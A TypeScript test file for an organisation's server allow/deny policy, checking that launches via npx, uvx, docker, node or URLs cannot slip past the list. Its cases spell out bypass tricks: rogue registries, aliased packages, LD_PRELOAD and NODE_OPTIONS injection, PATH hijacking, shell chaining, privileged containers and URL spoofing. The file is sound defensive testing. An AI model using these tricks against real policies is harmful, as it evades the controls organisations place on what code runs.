import { describe, expect, test } from 'vitest';
import { identityDigest, type ServerIdentity } from '../../electron/catalog/identity/identity.ts';
import { serverAllowed } from '../../electron/policy/managed/servers.ts';
import type { ManagedPolicy, ServerMatcher } from '../../shared/model/managed.ts';
import type { Launch } from '../../shared/model/server.ts';

// An organisation lists the servers that may be used. The attack: a command that fits the list by its name and runs
// something else (another registry, a second package, code loaded before it, a program of the same name).

const run = (command: string, args: readonly string[] = [], env: Record<string, string> = {}): Launch => ({
  transport: 'stdio',
  command,
  args: [...args],
  env,
});
const at = (url: string): Launch => ({ transport: 'http', url, headers: {} });

function verdict(servers: NonNullable<ManagedPolicy['servers']>, launch: Launch, identity?: ServerIdentity) {
  const policy: ManagedPolicy = {
    version: 1,
    organisation: { name: 'Example Ltd', contact: 'it@example.com' },
    servers,
    trustedRegistries: ['mirror.example.com'],
  };
  return serverAllowed(policy, { id: 'files', launch, identity, platform: 'linux' });
}
const allows = (matcher: ServerMatcher, launch: Launch, identity?: ServerIdentity): boolean =>
  verdict({ allowed: [matcher] }, launch, identity).allowed;
const forbids = (matcher: ServerMatcher, launch: Launch, identity?: ServerIdentity): boolean =>
  !verdict({ forbidden: [matcher] }, launch, identity).allowed;

describe('a package that is allowed', () => {
  const matcher = { package: '@acme/*' };

  test.each([
    ['as it is', run('npx', ['-y', '@acme/files'])],
    ['with a version and arguments', run('npx', ['-y', '@acme/files@1.2.3', '/srv/data'])],
    ['from a program of the system', run('/usr/bin/npx', ['@acme/files'])],
    ['behind cmd.exe', run('cmd', ['/c', 'npx', '-y', '@acme/files'])],
    [
      'from the mirror of the organisation',
      run('npx', ['--registry', 'https://mirror.example.com', '@acme/files']),
    ],
    ['under its own name behind -p', run('npx', ['-y', '-p', '@acme/files', 'files', '/srv'])],
    ['with a setting of its own', run('npx', ['@acme/files'], { ACME_REGION: 'eu' })],
  ])('may be used %s', (_name, launch) => expect(allows(matcher, launch)).toBe(true));

  test.each([
    ['of another scope', run('npx', ['-y', '@evil/files'])],
    ['deeper than the pattern', run('npx', ['-y', 'evil/@acme/files'])],
    ['in other letters', run('npx', ['-y', '@ACME/files'])],
    ['in look-alike letters', run('npx', ['-y', '@аcme/files'])],
    ['from another registry', run('npx', ['--registry', 'https://evil.example', '@acme/files'])],
    [
      'from another registry, behind -p',
      run('npx', ['-p', '@acme/files', '--registry=https://evil.example', 'files']),
    ],
    [
      'from another registry for its scope',
      run('npx', ['--@acme:registry=https://evil.example', '@acme/files']),
    ],
    [
      'from another registry by a variable',
      run('npx', ['@acme/files'], { npm_config_registry: 'https://evil.example' }),
    ],
    [
      'from another registry by a wrapper',
      run('env', ['npm_config_registry=https://evil.example', 'npx', '@acme/files']),
    ],
    ['with a second package', run('npx', ['-p', '@acme/files', '-p', 'evil', 'evil'])],
    ['as the excuse for another program', run('npx', ['-p', '@acme/files', 'bash', '/home/jane/evil.sh'])],
    [
      'as the excuse for another program, in one word',
      run('npx', ['--package=@acme/files', 'bash', '-c', 'evil']),
    ],
    ['with a line of a shell', run('npx', ['--call=evil', '@acme/files'])],
    ['with a line of a shell behind it', run('npx', ['-p', '@acme/files', '-c', 'evil'])],
    ['with a shell of the person', run('npx', ['--script-shell=/home/jane/evil', '@acme/files'])],
    ['with a configuration of the person', run('npx', ['--userconfig', '/home/jane/npmrc', '@acme/files'])],
    ['from a folder of the person', run('npx', ['--prefix', '/home/jane/evil', '@acme/files'])],
    ['by an alias', run('npx', ['@acme/files@npm:evil@1.0.0'])],
    ['from a repository', run('npx', ['@acme/files@github:evil/files'])],
    ['from a file', run('npx', ['./@acme/files'])],
    [
      'with code loaded before it',
      run('npx', ['@acme/files'], { NODE_OPTIONS: '--require /home/jane/evil.js' }),
    ],
    ['with other libraries', run('npx', ['@acme/files'], { LD_PRELOAD: '/home/jane/evil.so' })],
    ['with another PATH', run('npx', ['@acme/files'], { PATH: '/home/jane/evil:/usr/bin' })],
    ['by a program of the person called npx', run('/home/jane/npx', ['@acme/files'])],
    ['by a program in the folder called npx', run('./npx', ['@acme/files'])],
    ['by a program that climbs', run('/usr/bin/../../home/jane/npx', ['@acme/files'])],
    ['by a wrapper of the person called env', run('/home/jane/env', ['npx', '@acme/files'])],
    ['in the words of a shell', run('sh', ['-c', 'npx @acme/files; evil'])],
    ['as an argument of another program', run('/home/jane/evil', ['npx', '@acme/files'])],
    ['at an address', at('https://evil.example/@acme/files')],
  ])('may not be used %s', (_name, launch) => expect(allows(matcher, launch)).toBe(false));
});

describe('a registry that is named', () => {
  const matcher = { package: '@acme/*', registry: 'npm.acme.example' };

  test('has to be the only one', () => {
    const from = (...flags: string[]) => allows(matcher, run('npx', [...flags, '@acme/files']));
    expect(from('--registry', 'https://npm.acme.example/')).toBe(true);
    expect(from('--registry=https://npm.acme.example/')).toBe(true);
    expect(
      allows(matcher, run('npx', ['@acme/files'], { NPM_CONFIG_REGISTRY: 'https://npm.acme.example' })),
    ).toBe(true);
    expect(from()).toBe(false);
    expect(from('--registry', 'https://npm.acme.example.evil.example/')).toBe(false);
    expect(from('--registry', 'http://npm.acme.example/')).toBe(false);
  });

  test('beside the usual one could be overtaken by it', () => {
    const python = { package: 'acme-*', registry: 'pypi.acme.example' };
    expect(allows(python, run('uvx', ['--default-index', 'https://pypi.acme.example', 'acme-files']))).toBe(
      true,
    );
    expect(allows(python, run('uvx', ['--extra-index-url', 'https://pypi.acme.example', 'acme-files']))).toBe(
      false,
    );
    expect(allows({ package: 'acme-*', registry: 'pypi' }, run('uvx', ['acme-files']))).toBe(true);
    expect(allows({ package: 'acme-*', registry: 'npm' }, run('uvx', ['acme-files']))).toBe(false);
  });

  test('of images stands in their name', () => {
    const image = { package: 'ghcr.io/acme/*', registry: 'ghcr.io' };
    expect(allows(image, run('docker', ['run', '-i', '--rm', 'ghcr.io/acme/files:1']))).toBe(true);
    expect(allows(image, run('docker', ['run', '-i', '--rm', 'evil.example/ghcr.io/acme/files:1']))).toBe(
      false,
    );
    expect(
      allows(image, run('docker', ['run', '--entrypoint', 'sh', 'ghcr.io/acme/files:1', '-c', 'evil'])),
    ).toBe(false);
    expect(allows(image, run('docker', ['run', '--privileged', 'ghcr.io/acme/files:1']))).toBe(false);
    expect(allows(image, run('docker', ['-H', 'tcp://evil.example', 'run', 'ghcr.io/acme/files:1']))).toBe(
      false,
    );
    expect(allows({ package: 'acme/*', registry: 'oci' }, run('docker', ['run', '-i', 'acme/files']))).toBe(
      true,
    );
  });
});

describe('a program that is allowed', () => {
  const matcher = { command: '/opt/acme/**' };
  const identity = (command: string, files: { path: string; digest: string }[] = []): ServerIdentity => ({
    transport: 'stdio',
    command,
    args: [],
    envKeys: [],
    files,
  });

  test('is matched by its whole path, and an interpreter by its script', () => {
    expect(allows(matcher, run('/opt/acme/bin/files', ['--root', '/srv']))).toBe(true);
    expect(allows(matcher, run('node', ['/opt/acme/files.js']))).toBe(true);
    expect(allows(matcher, run('files'), identity('/opt/acme/bin/files'))).toBe(true);
  });

  test.each([
    ['another folder', run('/home/jane/opt/acme/files')],
    ['a path that climbs', run('/opt/acme/../../home/jane/evil')],
    ['a script that climbs', run('node', ['/opt/acme/../../home/jane/evil.js'])],
    ['a name without a path', run('files')],
    ['a script of another folder', run('node', ['/home/jane/evil.js', '/opt/acme/files.js'])],
    ['code in the command', run('node', ['-e', 'evil()', '/opt/acme/files.js'])],
    ['code loaded before it', run('node', ['--require', '/home/jane/evil.js', '/opt/acme/files.js'])],
    ['an interpreter of the person', run('/home/jane/node', ['/opt/acme/files.js'])],
    ['a wrapper', run('env', ['/opt/acme/files'])],
    ['libraries of the person', run('/opt/acme/files', [], { LD_PRELOAD: '/home/jane/evil.so' })],
  ])('does not stand for %s', (_name, launch) => expect(allows(matcher, launch)).toBe(false));

  test('is looked at where it is found, not where it says', () => {
    expect(allows(matcher, run('/opt/acme/files'), identity('/home/jane/evil'))).toBe(false);
  });

  test('is matched by its contents', () => {
    const digest = 'a'.repeat(64);
    const own = identity('/home/jane/files', [{ path: '/home/jane/files', digest }]);
    expect(allows({ digest }, run('/home/jane/files'), own)).toBe(true);
    expect(allows({ digest: 'b'.repeat(64) }, run('/home/jane/files'), own)).toBe(false);
    expect(allows({ digest }, run('/home/jane/files'))).toBe(false);
    expect(allows({ digest: identityDigest(own) }, run('/home/jane/files'), own)).toBe(true);
    const script = identity('/home/jane/node', [{ path: '/srv/x.js', digest }]);
    expect(allows({ digest }, run('/home/jane/node', ['/srv/x.js']), script)).toBe(false);
  });
});

describe('an address that is allowed', () => {
  test.each([
    ['mcp.acme.example', 'https://mcp.acme.example/mcp', true],
    ['mcp.acme.example', 'https://MCP.acme.example./mcp', true],
    ['mcp.acme.example', 'http://mcp.acme.example/mcp', false],
    ['mcp.acme.example', 'https://mcp.acme.example:8443/mcp', false],
    ['mcp.acme.example:8443', 'https://mcp.acme.example:8443/mcp', true],
    ['mcp.acme.example', 'https://mcp.acme.example.evil.example/mcp', false],
    ['mcp.acme.example', 'https://evil.example/mcp.acme.example', false],
    ['mcp.acme.example', 'https://mcp.acme.example@evil.example/', false],
    ['mcp.acme.example', 'https://jane:x@mcp.acme.example/', false],
    ['*.acme.example', 'https://a.b.acme.example/', true],
    ['*.acme.example', 'https://acme.example/', false],
    ['*.acme.example', 'https://evilacme.example/', false],
    ['https://mcp.acme.example/team', 'https://mcp.acme.example/team/mcp', true],
    ['https://mcp.acme.example/team', 'https://mcp.acme.example/team', true],
    ['https://mcp.acme.example/team', 'https://mcp.acme.example/teams', false],
    ['https://mcp.acme.example/team', 'https://mcp.acme.example/team/../other', false],
    ['https://mcp.acme.example/team', 'https://mcp.acme.example/team/..%2fother', false],
    ['https://mcp.acme.example/team', 'https://mcp.acme.example/team/%2e%2e/other', false],
    ['https://mcp.acme.example/', 'http://mcp.acme.example/', false],
    ['localhost', 'http://localhost:9000/mcp', true],
  ])('%s and %s: %s', (url, text, expected) => expect(allows({ url }, at(text))).toBe(expected));

  test('does not let a program in that only talks to it', () => {
    expect(allows({ url: 'mcp.acme.example' }, run('npx', ['mcp-remote', 'https://mcp.acme.example']))).toBe(
      false,
    );
  });
});

describe('what is forbidden', () => {
  test.each<[string, ServerMatcher, Launch]>([
    ['a package', { package: '@evil/*' }, run('npx', ['-y', '@evil/x@1.0.0'])],
    ['in other letters', { package: '@evil/*' }, run('npx', ['-y', '@EVIL/x'])],
    ['as a second package', { package: 'evil' }, run('npx', ['-p', 'good', '-p', 'evil', 'good'])],
    ['by an alias', { package: 'evil' }, run('npx', ['good@npm:evil@1'])],
    ['in the words of a shell', { package: 'evil' }, run('bash', ['-lc', 'exec npx -y evil@2'])],
    ['behind wrappers', { package: 'evil' }, run('env', ['A=b', 'nice', 'npx', 'evil'])],
    ['a program', { command: '/tmp/**' }, run('/tmp/a/b')],
    ['a program on Windows', { command: 'C:/Users/**' }, run('c:\\users\\jane\\x.exe')],
    ['a script', { command: '**/evil.py' }, run('python3', ['/home/jane/evil.py'])],
    ['a host, by any scheme and port', { url: 'evil.example' }, at('http://EVIL.example:8080/x')],
    ['a host with a login', { url: 'evil.example' }, at('https://a:b@evil.example/')],
    ['a prefix, encoded', { url: 'https://x.example/evil' }, at('https://x.example/%65vil/mcp')],
    [
      'a host behind a bridge',
      { url: 'evil.example' },
      run('npx', ['mcp-remote', 'https://evil.example/mcp']),
    ],
    ['a host behind a flag', { url: '*.example' }, run('npx', ['bridge', '--url=https://evil.example/mcp'])],
    [
      'a registry',
      { package: '*', registry: 'evil.example' },
      run('npx', ['--registry', 'https://evil.example', 'good']),
    ],
  ])('%s', (_name, matcher, launch) => expect(forbids(matcher, launch)).toBe(true));

  test('says whom to ask', () => {
    expect(verdict({ forbidden: [{ url: 'evil.example' }] }, at('https://evil.example'))).toEqual({
      allowed: false,
      sentence: 'Your organisation forbids "files". Ask Example Ltd: it@example.com',
    });
    expect(verdict({ allowed: [] }, at('https://a.example'))).toMatchObject({ allowed: false });
    expect(verdict({}, at('https://a.example'))).toEqual({ allowed: true });
    expect(forbids({ package: 'evil' }, run('npx', ['good', '--note', 'evil']))).toBe(false);
  });
});
